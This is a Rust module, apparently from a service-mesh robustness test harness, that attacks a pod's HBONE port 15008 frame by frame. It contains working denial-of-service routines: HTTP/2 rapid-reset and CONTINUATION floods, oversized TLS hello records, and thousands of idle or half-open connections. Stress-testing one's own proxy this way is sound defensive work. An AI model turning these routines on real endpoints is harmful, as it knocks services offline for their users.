//! Attacks on a pod's port 15008, frame by frame.
use super::attacker::{Count, Target, in_parallel};
use super::tls;
use anyhow::Result;
use mesh_testkit::frames::{CONTINUATION, DATA, END_HEADERS, HEADERS, RST_STREAM, frame, greeting};
use rustls::ClientConfig;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::TcpStream;

/// HEADERS of a CONNECT: literal fields, nothing indexed (RFC 7541 6.2.2).
fn connect(stream: u32, authority: SocketAddr) -> Vec<u8> {
    let authority = authority.to_string();
    let block = [b"\x02\x07CONNECT\x01".as_slice(), &[authority.len() as u8], authority.as_bytes()].concat();
    frame(HEADERS, END_HEADERS, stream, &block)
}

/// Reads until the peer ends the connection.
async fn drain(mut from: impl AsyncRead + Unpin) {
    let mut buffer = vec![0; 16 << 10];
    while from.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
}

/// Says it all on a new connection of `config`, then what `then` does, while answers are read away.
async fn on_a_connection<F>(target: &Target, config: &Arc<ClientConfig>, then: impl FnOnce(Writer) -> F)
where
    F: Future<Output = ()>,
{
    let Ok(stream) = tls::dial(target.hbone(), config).await else { return target.count.failed() };
    target.count.begun();
    let (read, mut write) = tokio::io::split(stream);
    if write.write_all(&greeting()).await.is_err() {
        return;
    }
    tokio::select! {
        () = drain(read) => {}
        () = then(Box::new(write)) => {}
    }
}

type Writer = Box<dyn AsyncWrite + Unpin>;

async fn say(write: &mut Writer, bytes: &[u8]) -> bool {
    write.write_all(bytes).await.is_ok() && write.flush().await.is_ok()
}

/// Handshakes with certificates that lead nowhere.
pub(super) async fn certificates(target: Target) -> Result<()> {
    let config = tls::cross_signed(56)?;
    in_parallel(3, target, async move |target: &Target| {
        target.count.begun();
        // TLS 1.3 tells the client last: the refusal comes with the first read.
        if let Ok(stream) = tls::dial(target.hbone(), &config).await {
            drain(stream).await;
        }
    })
    .await;
    Ok(())
}

/// Connections like any other, to an application that takes nothing.
pub(super) async fn slow_application(target: Target) -> Result<()> {
    in_parallel(10, target, async |target: &Target| {
        let Ok(mut stream) = TcpStream::connect(target.sink()).await else { return target.count.failed() };
        target.count.begun();
        while stream.write_all(&[0; 16 << 10]).await.is_ok() {}
    })
    .await;
    Ok(())
}

pub(super) async fn reset_tunnels(target: Target) -> Result<()> {
    let config = tls::peer(&target.files)?;
    in_parallel(4, target, async move |target: &Target| {
        on_a_connection(target, &config, async |mut write: Writer| {
            for stream in (1..u32::MAX >> 1).step_by(2) {
                let both =
                    [connect(stream, target.echo()), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat();
                if !say(&mut write, &both).await {
                    return;
                }
                target.count.begun();
            }
        })
        .await;
    })
    .await;
    Ok(())
}

pub(super) async fn single_bytes(target: Target) -> Result<()> {
    let config = tls::peer(&target.files)?;
    in_parallel(4, target, async move |target: &Target| {
        on_a_connection(target, &config, async |mut write: Writer| {
            let mut stream = 1;
            while say(&mut write, &connect(stream, target.sink())).await {
                let byte = frame(DATA, 0, stream, &[0]).repeat(1_000);
                // As many as the window of a stream allows.
                for _ in 0..4_000 {
                    if !say(&mut write, &byte).await {
                        return;
                    }
                }
                stream += 2;
            }
        })
        .await;
    })
    .await;
    Ok(())
}

pub(super) async fn left_behind(target: Target) -> Result<()> {
    let config = tls::peer(&target.files)?;
    in_parallel(8, target, async move |target: &Target| {
        on_a_connection(target, &config, async |mut write: Writer| {
            if !say(&mut write, &connect(1, target.sink())).await {
                return;
            }
            for _ in 0..250 {
                if !say(&mut write, &frame(DATA, 0, 1, &[0; 16 << 10])).await {
                    return;
                }
            }
        })
        .await;
    })
    .await;
    Ok(())
}

/// Connections that are made, say `bytes` and stay.
async fn stay(most: usize, target: Target, config: Option<Arc<ClientConfig>>, bytes: Vec<u8>) {
    let bytes = Arc::new(bytes);
    in_parallel(most, target, async move |target: &Target| match &config {
        Some(config) => {
            on_a_connection(target, config, async |mut write: Writer| {
                say(&mut write, &bytes).await;
                std::future::pending().await
            })
            .await;
        }
        None => {
            let Ok(mut stream) = TcpStream::connect(target.hbone()).await else { return target.count.failed() };
            target.count.begun();
            if stream.write_all(&bytes).await.is_ok() {
                drain(stream).await;
            }
        }
    })
    .await;
}

pub(super) async fn header_blocks(target: Target) -> Result<()> {
    let config = tls::peer(&target.files)?;
    let piece = [0; 15_000];
    let unfinished = [frame(HEADERS, 0, 1, &piece), frame(CONTINUATION, 0, 1, &piece).repeat(3)].concat();
    stay(3_000, target, Some(config), unfinished).await;
    Ok(())
}

/// The beginning of a handshake message that says it is 65,000 bytes long, in records of TLS 1.3 (RFC 8446 4, 5.1).
pub(super) async fn hellos(target: Target) -> Result<()> {
    let mut handshake = vec![1, 0, 0xfd, 0xe8, 3, 3];
    handshake.resize(62_000, 0);
    let records = handshake.chunks(16 << 10).flat_map(|piece| {
        let length = u16::try_from(piece.len()).unwrap_or(u16::MAX).to_be_bytes();
        [&[22, 3, 1, length[0], length[1]], piece].concat()
    });
    stay(5_400, target, None, records.collect()).await;
    Ok(())
}

pub(super) async fn idle_peers(target: Target) -> Result<()> {
    let config = tls::peer(&target.files)?;
    stay(3_300, target, Some(config), Vec::new()).await;
    Ok(())
}

pub(super) async fn half_open(target: Target) -> Result<()> {
    stay(4_000, target, None, Vec::new()).await;
    Ok(())
}

/// For the table: what was done.
pub(super) fn summary(count: &Count, time: Duration) -> String {
    let (begun, failed) = count.get();
    format!("{begun} begun, {failed} refused in {} s", time.as_secs())
}
